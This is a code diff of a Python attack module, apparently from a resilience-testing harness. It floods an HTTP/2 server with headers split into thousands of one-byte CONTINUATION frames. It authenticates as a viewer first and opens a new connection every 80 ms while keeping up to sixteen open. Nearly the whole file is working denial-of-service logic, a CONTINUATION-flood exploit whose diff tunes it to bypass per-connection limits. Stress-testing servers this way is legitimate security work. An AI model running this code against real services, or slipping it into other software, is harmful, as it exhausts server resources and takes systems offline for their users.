@@ -1,5 +1,7 @@
-"""A viewer's headers in crumbs. Cheap calls between them earn him the bytes for the next."""
+"""A viewer's headers in crumbs: one of as many bytes as somebody known may send at once, on a new
+connection each time, as often as an address may have them."""
 
+import collections
 import itertools
 import time
 
@@ -9,64 +11,52 @@ from target import Cut
 WAYS = ("tls", "plain")
 ROLE = "viewer"
 FLOOR = {"frames": 500}
-# What a header takes on the wire, and of how many bytes; the begin of it comes whole.
-WHOLE, CRUMBS = 24 << 10, 5500
-CALLS = 8
-# In bytes a second; less after it was cut off.
-RATE_FIRST, RATE_MIN, SLOWER = 300 << 10, 8 << 10, 0.7
-TICK_S = 0.01
+# Of a header, the begin in whole frames and the rest a byte each: what costs most of 96 KiB.
+WHOLE, CRUMBS = 44 << 10, 4500
+# Between two of them. More were more than an address may send.
+PERIOD_S = 0.08
+UNDER_WAY = 16
+# Until the first picture.
+PICTURE_MAX_S = 1.0
 
 
 def attack(target):
-    rate = RATE_FIRST
+    header = header_in_crumbs(target)
+    # What is closed at once is read by nobody.
+    under_way = collections.deque()
     for number in itertools.count():
+        began = time.monotonic()
         try:
-            with target.connect(number) as connection:
-                connection.open_call(wire.STREAM_DISPLAY, wire.stream_start(target.display), False,
-                                     target.credentials())
-                # Who is known may send more.
-                connection.await_served()
-                linger(target, connection, 0.2)
-                while True:
-                    crumble(target, connection, rate)
+            under_way.append(target.connect(number))
+            crumble(target, under_way[-1], header)
         except Cut as cut:
             target.cut(cut)
-            rate = max(RATE_MIN, rate * SLOWER)
+        if len(under_way) > UNDER_WAY:
+            under_way.popleft().close()
+        time.sleep(max(0.0, min(target.left(), began + PERIOD_S - time.monotonic())))
 
 
-def crumble(target, connection, rate):
-    """One header, and the calls that pay for the next."""
-    stream = connection.next_stream
-    connection.next_stream += 2
+def header_in_crumbs(target):
+    """Of the connection's second call."""
     begin = b"".join(wire.literal(name, value) for name, value in
                      wire.request_headers(wire.HEALTH_CHECK, target.scheme))
     begin += b"\x00" + wire.string("x") + wire.integer(WHOLE + CRUMBS, 7)
-    connection.queue(wire.frame(wire.HEADERS, 0, stream, begin))
+    frames = [wire.frame(wire.HEADERS, 0, 3, begin)]
     for at in range(0, WHOLE, wire.FRAME_MAX):
-        size = min(WHOLE - at, wire.FRAME_MAX)
-        connection.queue(wire.frame(wire.CONTINUATION, 0, stream, b"y" * size))
-    crumb = wire.frame(wire.CONTINUATION, 0, stream, b"y")
-    each_tick = max(1, int(rate * TICK_S / len(crumb)))
-    for at in range(0, CRUMBS, each_tick):
-        count = min(CRUMBS - at, each_tick)
-        connection.queue(crumb * count)
-        connection.count("frames", count)
-        linger(target, connection, TICK_S)
-    connection.queue(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream))
-    connection.queue(wire.rst_stream(stream))
-    connection.count("headers")
-    for _ in range(CALLS):
-        connection.open_call(wire.HEALTH_CHECK, b"")
-    connection.count("calls", CALLS)
-    linger(target, connection, CALLS * TICK_S)
+        whole = b"y" * min(WHOLE - at, wire.FRAME_MAX)
+        frames.append(wire.frame(wire.CONTINUATION, 0, 3, whole))
+    return b"".join(frames) + wire.frame(wire.CONTINUATION, 0, 3, b"y") * CRUMBS
 
 
-def linger(target, connection, seconds):
-    until = time.monotonic() + seconds
-    while True:
+def crumble(target, connection, header):
+    connection.open_call(wire.STREAM_DISPLAY, wire.stream_start(target.display), False,
+                         target.credentials())
+    # Who has a picture is known, and may send more than a stranger.
+    deadline = time.monotonic() + PICTURE_MAX_S
+    while time.monotonic() < deadline:
         connection.flush()
-        connection.discard()
-        left = until - time.monotonic()
-        if left <= 0 and not connection.queued:
-            return
-        time.sleep(min(target.left(), max(left, 0.001), TICK_S))
+        connection.wait(0.01)
+        if any(what == "message" for _, what, _ in connection.events()):
+            break
+    connection.send(header)
+    connection.count("frames", CRUMBS)
